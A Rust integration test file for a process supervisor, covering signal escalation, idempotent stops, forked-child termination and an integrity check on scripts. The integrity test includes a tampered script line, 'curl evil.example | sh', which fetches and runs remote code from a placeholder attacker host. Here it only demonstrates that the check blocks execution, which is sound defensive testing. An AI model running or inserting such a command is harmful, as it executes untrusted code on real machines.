//! Integration tests for the process supervisor against real `sh` scripts.
//!
//! Covers the stop escalation path (SIGTERM ignored, SIGKILL after the
//! graceful window), stop idempotence, the integrity gate, and group-wide
//! termination of forked children.

mod common;

use std::os::fd::OwnedFd;
use std::time::{Duration, Instant};

use tokio::io::AsyncReadExt;
use tokio::net::unix::pipe;

use common::ScriptDir;
use scripted_inputs_core::error::IntegrityError;
use scripted_inputs_core::supervisor::{
    ProcessState, ProcessSupervisor, StartOutcome, SupervisorOptions,
};

const GRACE: Duration = Duration::from_millis(500);

fn output_pipe() -> (pipe::Receiver, OwnedFd) {
    let (tx, rx) = pipe::pipe().expect("pipe");
    (rx, tx.into_blocking_fd().expect("blocking fd"))
}

fn supervisor(dir: &ScriptDir, name: &str) -> ProcessSupervisor {
    let options = SupervisorOptions {
        graceful_timeout: GRACE,
        ..SupervisorOptions::default()
    };
    ProcessSupervisor::new(dir.guard(), name, options)
}

/// Block until the script printed its readiness line.
async fn wait_ready(rx: &mut pipe::Receiver) {
    let mut seen = Vec::new();
    let mut buf = [0u8; 64];
    while !seen.windows(5).any(|w| w == b"ready") {
        let n = rx.read(&mut buf).await.expect("read");
        assert!(n > 0, "script exited before becoming ready");
        seen.extend_from_slice(&buf[..n]);
    }
}

#[tokio::test]
async fn sigterm_ignoring_script_is_killed_within_bound() {
    let dir = ScriptDir::with_scripts(&[("stubborn.sh", "trap '' TERM\necho ready\nsleep 30\n")]);
    let supervisor = supervisor(&dir, "stubborn.sh");
    let (mut rx, tx) = output_pipe();

    assert!(matches!(
        supervisor.start(None, &[], tx).await.unwrap(),
        StartOutcome::Started
    ));
    wait_ready(&mut rx).await;

    let started = Instant::now();
    supervisor.stop(None).await.unwrap();
    let elapsed = started.elapsed();

    assert!(elapsed >= GRACE, "escalated too early: {elapsed:?}");
    assert!(elapsed < GRACE + Duration::from_secs(3), "stop took {elapsed:?}");
    assert_eq!(supervisor.state(), ProcessState::Killed);
    assert_eq!(supervisor.exit_code(), Some(-1));
    assert!(!supervisor.is_running());
}

#[tokio::test]
async fn stop_is_idempotent() {
    let dir = ScriptDir::with_scripts(&[("sleepy.sh", "sleep 30\n")]);
    let supervisor = supervisor(&dir, "sleepy.sh");
    let (_rx, tx) = output_pipe();
    supervisor.start(None, &[], tx).await.unwrap();

    supervisor.stop(None).await.unwrap();
    let state = supervisor.state();
    assert!(state.is_terminal());

    let again = Instant::now();
    supervisor.stop(None).await.unwrap();
    assert!(again.elapsed() < Duration::from_millis(50));
    assert_eq!(supervisor.state(), state);
}

#[tokio::test]
async fn concurrent_stops_share_one_escalation() {
    let dir = ScriptDir::with_scripts(&[("stubborn.sh", "trap '' TERM\necho ready\nsleep 30\n")]);
    let supervisor = supervisor(&dir, "stubborn.sh");
    let (mut rx, tx) = output_pipe();
    supervisor.start(None, &[], tx).await.unwrap();
    wait_ready(&mut rx).await;

    let first = supervisor.clone();
    let second = supervisor.clone();
    let (a, b) = tokio::join!(first.stop(None), second.stop(None));
    assert!(a.is_ok());
    assert!(b.is_ok());
    assert_eq!(supervisor.state(), ProcessState::Killed);
}

#[tokio::test]
async fn tampered_script_never_spawns() {
    let dir = ScriptDir::with_scripts(&[("probe.sh", "echo ok\n")]);
    dir.tamper("probe.sh", "echo ok; curl evil.example | sh\n");
    let supervisor = supervisor(&dir, "probe.sh");
    let (mut rx, tx) = output_pipe();

    let outcome = supervisor.start(None, &[], tx).await.unwrap();
    assert!(matches!(
        outcome,
        StartOutcome::Skipped(IntegrityError::DigestMismatch { .. })
    ));
    assert_eq!(supervisor.state(), ProcessState::NotStarted);
    assert!(supervisor.pid().is_none());

    // No writer survives, so the reader sees end-of-stream at once.
    let mut buf = Vec::new();
    let read = tokio::time::timeout(Duration::from_secs(1), rx.read_to_end(&mut buf)).await;
    assert_eq!(read.expect("pipe closed").unwrap(), 0);

    supervisor.stop(None).await.unwrap();
    assert_eq!(supervisor.state(), ProcessState::NotStarted);
}

#[tokio::test]
async fn done_signal_fires_for_every_waiter() {
    let dir = ScriptDir::with_scripts(&[("quick.sh", "exit 0\n")]);
    let supervisor = supervisor(&dir, "quick.sh");
    let (_rx, tx) = output_pipe();
    let mut early = supervisor.done();
    supervisor.start(None, &[], tx).await.unwrap();

    tokio::time::timeout(Duration::from_secs(5), early.wait())
        .await
        .expect("done fired");
    let mut late = supervisor.done();
    assert!(late.is_done());
    late.wait().await;

    assert_eq!(supervisor.state(), ProcessState::Exited);
    assert_eq!(supervisor.exit_code(), Some(0));
}

#[tokio::test]
async fn stop_reaches_forked_children() {
    let dir = ScriptDir::with_scripts(&[(
        "forks.sh",
        "sleep 30 &\nsleep 30 &\necho ready\nwait\n",
    )]);
    let supervisor = supervisor(&dir, "forks.sh");
    let (mut rx, tx) = output_pipe();
    supervisor.start(None, &[], tx).await.unwrap();
    wait_ready(&mut rx).await;

    supervisor.stop(None).await.unwrap();

    // Both background sleeps held the write end; EOF means they are gone.
    let mut rest = Vec::new();
    tokio::time::timeout(Duration::from_secs(3), rx.read_to_end(&mut rest))
        .await
        .expect("children still hold the pipe")
        .unwrap();
}
